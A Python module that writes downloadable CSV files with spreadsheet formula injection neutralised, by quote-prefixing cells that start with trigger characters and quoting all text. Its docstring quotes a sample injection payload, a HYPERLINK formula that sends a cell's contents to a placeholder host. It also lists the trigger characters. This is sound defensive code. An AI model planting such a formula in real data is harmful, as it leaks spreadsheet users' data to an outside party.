"""CSV files offered for download, safe to open in a spreadsheet.

Excel, LibreOffice Calc and Google Sheets read a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return as a formula, so a submitted
model name such as ``=HYPERLINK("https://x.example/?"&A2)`` would run in the
reader's spreadsheet (CSV or formula injection). As OWASP recommends, such a
cell gets a leading single quote, which spreadsheets take to mean "text", and
every text cell is wrapped in double quotes (inner ones doubled), so that a
separator or line break inside it cannot start a new cell that is a formula:
``x;=1+1`` would otherwise split in spreadsheets whose list separator is ``;``.

Only text columns change: numbers are written unquoted and in full (Python's
shortest round-trip form), a negative number stays a number, and the Parquet
files keep every value exactly as submitted. Every CSV that the site (render
stage) or a release folder (release stage) offers goes through
:func:`download_csv`, so it is a foundation module that both use.
"""

from __future__ import annotations

import csv

import pandas as pd

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet evaluate a cell (OWASP, CSV Injection)."""


def download_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text for download: no index, formulas neutralised, text quoted, numbers in full.

    A missing value is written as ``""``; ``pandas.read_csv`` reads it back as missing.
    """
    return neutralise_formulas(frame).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells that start with a formula trigger are prefixed with ``'``.

    Text columns are every column that is not numeric, boolean or a date; in
    them only string values change, so missing values stay missing.

    Examples
    --------
    >>> neutralise_formulas(pd.DataFrame({"model": ["=1+1", "ok"], "score": [-1.5, 2.0]})).to_dict("list")
    {'model': ["'=1+1", 'ok'], 'score': [-1.5, 2.0]}
    """
    out = frame.copy(deep=False)
    for name in frame.columns:
        if _is_text(frame[name]):
            out[name] = _neutralise(frame[name])
    return out


def _is_text(column: pd.Series) -> bool:
    kinds = (
        pd.api.types.is_numeric_dtype,
        pd.api.types.is_bool_dtype,
        pd.api.types.is_datetime64_any_dtype,
        pd.api.types.is_timedelta64_dtype,
    )
    return not any(kind(column.dtype) for kind in kinds)


def _neutralise(column: pd.Series) -> pd.Series:
    """Prefix every string cell that starts with a formula trigger with ``'``.

    Works on the distinct values, so a column of a few models over millions
    of rows costs one look-up per row.
    """
    bad = [v for v in pd.unique(column.dropna()) if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS)]
    if not bad:
        return column
    column = column.astype(object) if isinstance(column.dtype, pd.CategoricalDtype) else column.copy()
    hit = column.isin(bad)
    column[hit] = "'" + column[hit]
    return column
